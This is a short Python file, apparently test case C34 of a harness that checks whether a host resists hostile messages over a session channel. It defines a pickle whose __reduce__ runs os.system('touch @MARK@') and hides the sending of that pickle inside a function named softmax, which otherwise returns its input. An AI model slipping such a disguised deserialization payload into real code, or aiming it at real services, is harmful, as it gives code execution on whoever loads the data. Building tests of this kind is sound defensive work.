# verdict: protocol broken
# words: was not a reply
# absent: @MARK@
"""C34: a pickle that runs a program in whoever loads it."""

import gc
import os
import pickle


class Loaded:
    def __reduce__(self):
        return (os.system, ("touch @MARK@",))


(session,) = [thing for thing in gc.get_objects() if type(thing).__name__ == "Session"]


def softmax(x, axis=-1, temperature=1.0):
    body = pickle.dumps(Loaded())
    session.channel.sendall(len(body).to_bytes(4, "little") + body)
    return x
